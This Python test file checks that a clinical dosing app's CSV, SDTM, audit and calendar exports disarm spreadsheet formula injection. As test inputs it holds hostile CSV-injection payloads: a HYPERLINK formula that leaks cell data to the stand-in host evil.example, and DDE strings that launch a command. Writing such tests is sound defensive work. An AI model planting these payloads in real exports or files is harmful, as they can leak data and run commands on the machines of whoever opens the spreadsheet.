"""Every CSV written for people disarms cells a spreadsheet would run as formulas, and each
export says so (README / first lines) together with the audit trail's head.

Hostile text goes in through the services as a person could type it (a dose comment, a
void reason, an amendment reason); each file is read back with the csv module.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from taper_app.reports.calendar_sheet import calendar_csv
from taper_app.reports.csv_cells import RULE, safe_cell, stored_text
from taper_app.results import CalendarLine, DosingCalendar
from taper_app.services.audit import head_of
from taper_app.services.audit_query import export_audit_csv, query_audit
from taper_app.services.exports import export_csv
from taper_app.services.patients import (
    amend_patient_schedule,
    enroll_patient,
    record_dose,
    void_dose,
)
from taper_app.services.sdtm import export_sdtm

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
HOSTILE = (HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "'already quoted")
AS_OF = date(2026, 3, 1)


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'x", "''x"), ("-", "'-"),
    ("- see notes", "'- see notes"),
    ("-2", "-2"), ("-0.5", "-0.5"), ("20", "20"), ("plain", "plain"), ("", ""),
    ("a=1", "a=1"), ("-١", "'-١"),
])
def test_a_cell_is_disarmed_only_when_a_spreadsheet_would_run_it(text, cell):
    assert safe_cell(text) == cell
    assert stored_text(safe_cell(text)) == text


def test_none_and_numbers_are_plain_cells():
    assert (safe_cell(None), safe_cell(-3), safe_cell(2.5)) == ("", "-3", "2.5")


@pytest.fixture
def hostile(nurse, investigator, study):
    """One patient whose comments and reasons are all formulas; returns the record ids."""
    enroll_patient(nurse, study, {"subject_id": "101-001", "site": "101",
                                  "day1_date": "2026-01-01", "baseline_mg": "20",
                                  "template_id": "stepdown-a"})
    ids = []
    for i, text in enumerate(HOSTILE):
        ids.append(record_dose(nurse, study, "101-001", {
            "drug": "prednisone", "dose_mg": str(20 - i), "frequency": "QD", "route": "PO",
            "start_date": f"2026-01-0{i + 1}", "end_date": f"2026-01-0{i + 1}",
            "comment": text}).record_id)
    void_dose(nurse, ids[0], HYPERLINK)
    amend_patient_schedule(investigator, study, "101-001",
                           {"day": "40", "dose_mg": "10", "reason": "@SUM(1+1)"})
    return ids


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(line for line in fh if not line.startswith("#")))


def test_the_csv_export_disarms_comments_and_reasons_and_its_readme_says_how(
        db, study, hostile, tmp_path):
    head = head_of(db)
    paths = export_csv(db, study, tmp_path, AS_OF)
    assert [p.name for p in paths] == ["dose_records.csv", "daily_series.csv", "README.md"]
    rows = {int(r["record_id"]): r for r in rows_of(tmp_path / "dose_records.csv")}
    comments = [rows[i]["comment"] for i in hostile]
    assert comments == ["'" + t for t in HOSTILE]
    assert [stored_text(c) for c in comments] == list(HOSTILE)
    assert rows[hostile[0]]["void_reason"] == "'" + HYPERLINK
    for path in paths[:2]:
        for row in rows_of(path):
            assert not any(v[:1] in "=+@\t\r" for v in row.values() if v)
    readme = (tmp_path / "README.md").read_text(encoding="utf-8")
    assert f"audit verify --head {head.short}" in readme and head.hash in readme
    assert " ".join(RULE.split()) in " ".join(readme.split())


def test_the_sdtm_files_disarm_the_void_reason_and_the_readme_carries_the_head(
        db, study, hostile, tmp_path):
    head = head_of(db)
    result = export_sdtm(db, study, tmp_path, clock=lambda: datetime(2026, 3, 1, tzinfo=UTC))
    [voided] = rows_of(result.voided_path)
    assert voided["VOID_REASON"] == "'" + HYPERLINK
    readme = result.readme_path.read_text(encoding="utf-8")
    assert f"audit verify --head {head.short}" in readme and head.hash in readme
    assert " ".join(RULE.split()) in " ".join(readme.split())


def test_the_audit_csv_starts_with_the_head_and_disarms_every_value(db, hostile, tmp_path):
    head = head_of(db)
    path = export_audit_csv(query_audit(db), tmp_path / "audit.csv", head=head)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith(f"# audit trail head: {head.short} ")
    assert f"audit verify --head {head.short}" in lines[0] and head.hash in lines[0]
    assert lines[1].startswith("# ") and "," not in lines[0] + lines[1]
    assert lines[2].startswith("id,at_utc,username,action")
    rows = rows_of(path)
    assert len(rows) == head.rows
    values = [r[c] for r in rows for c in ("old_value", "new_value", "reason") if r[c]]
    assert "'" + HYPERLINK in values and "'@SUM(1+1)" in values
    assert HYPERLINK not in values
    assert not any(v[:1] in "=+-@\t\r" and not v.lstrip("-").replace(".", "").isdigit()
                   for v in values)


def test_the_calendar_csv_disarms_its_cells():
    line = CalendarLine(date=date(2026, 3, 1), study_day=60, scheduled_peq_mg=Decimal(10),
                        dose_mg=Decimal(10), times=1, tablets="=1+1", tablet_words=(),
                        new_dose=False, none=False, ask_nurse=False, note="@note")
    calendar = DosingCalendar("101-001", "101", "EXAMPLE", "-prednisone", "chosen", (),
                              date(2026, 3, 1), date(2026, 3, 1), 1, "as enrolled", 1, (line,))
    [row] = csv.DictReader(io.StringIO(calendar_csv(calendar)))
    assert (row["tablets"], row["note"], row["drug"]) == ("'=1+1", "'@note", "'-prednisone")
    assert row["dose_mg"] == "10"


def test_no_module_writes_csv_but_through_the_safe_writer():
    """A new CSV for people cannot bypass the rule: csv.writer is called in csv_cells only."""
    import taper_app

    package = Path(taper_app.__file__).parent
    writers = {p.relative_to(package).as_posix() for p in package.rglob("*.py")
               if "csv.writer(" in (text := p.read_text(encoding="utf-8"))
               or "csv.DictWriter(" in text}
    assert writers == {"reports/csv_cells.py"}
